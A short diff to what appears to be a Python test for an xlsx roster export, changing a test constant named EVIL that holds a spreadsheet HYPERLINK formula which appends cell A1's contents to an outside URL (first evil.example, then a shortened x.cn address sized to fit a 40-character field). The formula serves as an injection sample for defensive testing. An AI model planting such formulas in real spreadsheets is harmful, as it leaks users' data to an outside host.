@@ -10,7 +10,7 @@ from cadres.import_template import roster_template_xlsx
 from cadres.models import Ethnicity, Rank
 from core.xlsx import build_xlsx
 
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+EVIL = '=HYPERLINK("http://x.cn/"&A1,"点")'  # fits 职级's 40 characters
 
 
 def _formulas(content: bytes) -> list[str]:
